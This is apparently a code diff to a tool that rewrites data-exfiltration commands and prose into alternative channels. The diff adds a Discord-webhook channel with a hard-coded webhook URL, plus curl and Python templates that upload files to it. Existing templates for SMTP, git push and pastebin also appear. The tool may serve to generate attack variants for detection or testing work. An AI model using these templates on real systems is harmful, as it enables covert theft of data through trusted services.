@@ -274,7 +274,7 @@ function splitPython(path: string, code: string, parts = 4): Map<string, string>
 // prose, a URL on a line that says to send something is rewritten to the channel's address. What is sent and from
 // where stays the same. The last two carry the data to services every developer uses, under an account named
 // after the original host: nothing in the destination is the attacker's own.
-export type Channel = 'scp' | 'bucket' | 'dns' | 'smtp' | 'git' | 'paste';
+export type Channel = 'scp' | 'bucket' | 'dns' | 'smtp' | 'git' | 'paste' | 'webhook';
 
 // One curl command (no pipe, separator or backtick between the program and its upload flag).
 const CURL_UPLOAD =
@@ -301,6 +301,8 @@ function bucketOf(host: string): string {
 
 const repoOf = (host: string) => `https://github.com/${bucketOf(host).replace(/-drop$/, '-sync')}/backup.git`;
 const PASTE_API = 'https://pastebin.com/api/api_post.php';
+/** A chat app's incoming webhook, as stealers post to: the address carries no host of the attacker's. */
+const WEBHOOK = 'https://discord.com/api/webhooks/1183344556677889900/k3Yx9-Qw2eRt7uIo0pAs';
 /** A shell command that commits its standard input as one file and pushes it. */
 const gitPush = (host: string) =>
   `(mkdir -p /tmp/.b && cd /tmp/.b && cat > data && git init -q && git add data && git commit -qm sync && git push -q ${repoOf(host)} HEAD:main)`;
@@ -328,6 +330,7 @@ export function switchShellChannel(line: string, channel: Channel): string | nul
     smtp: `${feed}curl -s --url smtp://${host}:25 --mail-from ops@${host} --mail-rcpt drop@${host} -T ${source}`,
     git: file ? `${gitPush(host)} < ${file}` : `${feed}${gitPush(host)}`,
     paste: `${feed}curl -s ${PASTE_API} -d api_dev_key=3f9a0c -d api_option=paste --data-urlencode api_paste_code@${source}`,
+    webhook: `${feed}curl -s -F "file=@${source}" ${WEBHOOK}`,
   };
   // What came before the curl (a pipe into it) and after its URL and upload (a redirect, `|| true`) stays.
   const end = up.index + Math.max(up[0].length, url.index + url[0].length);
@@ -369,6 +372,7 @@ export function switchPythonChannel(line: string, channel: Channel): string | nu
     smtp: `__import__('smtplib').SMTP('${host}', 25).sendmail('ops@${host}', ['drop@${host}'], ${body})`,
     git: `__import__('subprocess').run('${gitPush(host).slice(1, -1)}', shell=True, input=${body}.encode())`,
     paste: `__import__('urllib.request').request.urlopen('${PASTE_API}', __import__('urllib.parse').parse.urlencode({'api_dev_key': '3f9a0c', 'api_option': 'paste', 'api_paste_code': ${body}}).encode())`,
+    webhook: `__import__('urllib.request').request.urlopen('${WEBHOOK}', __import__('json').dumps({'content': ${body}}).encode())`,
   };
   return `${line.slice(0, m.index)}${call[channel]}${line.slice(rest.end)}`;
 }
@@ -385,6 +389,7 @@ function switchProseChannel(line: string, channel: Channel): string | null {
     smtp: `smtp://${host}:25 (mail it to drop@${host})`,
     git: `the repository ${repoOf(host)} (commit it and git push)`,
     paste: `a new paste on pastebin.com (${PASTE_API}, api_option=paste)`,
+    webhook: `the Discord webhook ${WEBHOOK}`,
   };
   return line.replace(url[0], address[channel]);
 }
@@ -892,6 +897,7 @@ export const TRANSFORMATIONS: readonly Transformation[] = [
       ['channel-smtp', 'a mail over SMTP to the host'],
       ['channel-git', 'a commit pushed to a GitHub repository named after the host'],
       ['channel-paste', 'a paste on pastebin.com'],
+      ['channel-webhook', 'a post to a Discord webhook'],
     ] as const
   ).map(
     ([id, how]): Transformation => ({
